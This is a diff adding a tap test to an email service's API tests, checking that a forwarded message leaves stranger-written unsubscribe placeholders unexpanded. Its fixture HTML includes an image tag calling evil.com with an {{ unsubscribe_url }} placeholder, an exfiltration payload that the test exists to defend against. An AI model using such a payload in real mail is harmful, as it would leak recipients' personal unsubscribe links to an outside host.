@@ -1,3 +1,4 @@
+import PostalMime from 'postal-mime'
 import t from 'tap'
 import type { AnswerBody } from '#test/support/api.ts'
 import { startApi } from '#test/support/api.ts'
@@ -183,6 +184,28 @@ t.test('a forward has the content and files of the original', async t => {
   })
   const { raw } = await deliver(body)
   for (const text of ['a file', 'an image']) t.match(raw, Buffer.from(text).toString('base64'))
+})
+
+t.test('a forward has no link to unsubscribe in place of a placeholder that a stranger wrote', async t => {
+  const html = '<img src="https://evil.com/?u={{ unsubscribe_url }}">{{{UNSUBSCRIBE_URL}}} {{name}}'
+  const both = await receive(work, account, await compose({ text: 'At {{unsubscribe_url|none}} {{name}}', html }))
+  const alone = await receive(work, account, await compose({ html }))
+  for (const [id, track_opens] of [
+    [both, false],
+    [both, true],
+    [alone, true],
+  ] as const) {
+    const { status, body } = await ask(id, 'forward', { to: 'bob@y.com', track_opens })
+    t.equal(status, 200)
+    const sent = await PostalMime.parse((await deliver(body)).raw)
+    t.ok(sent.html?.replaceAll('&#123;', '{').includes(html))
+    shows(
+      t,
+      sent.text?.trim(),
+      id === both ? 'At { {unsubscribe_url|none}} {{name}}' : /\{\{\{UNSUBSCRIBE_URL}}} \{\{name}}/,
+    )
+    t.notMatch(`${sent.html} ${sent.text}`, '/u/')
+  }
 })
 
 t.test('an image that the html shows is forwarded inline', async t => {
